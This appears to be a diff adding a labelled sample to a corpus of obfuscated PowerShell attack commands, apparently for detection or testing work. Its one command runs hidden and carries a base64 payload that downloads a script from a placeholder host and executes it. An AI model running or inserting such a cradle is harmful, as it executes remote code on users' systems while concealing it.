@@ -1,0 +1,4 @@
+# description: Hides a DownloadString cradle in an -EncodedCommand payload.
+# family: remote-code
+# obfuscated: yes
+powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBwAC4AcABzADEAJwApAA==
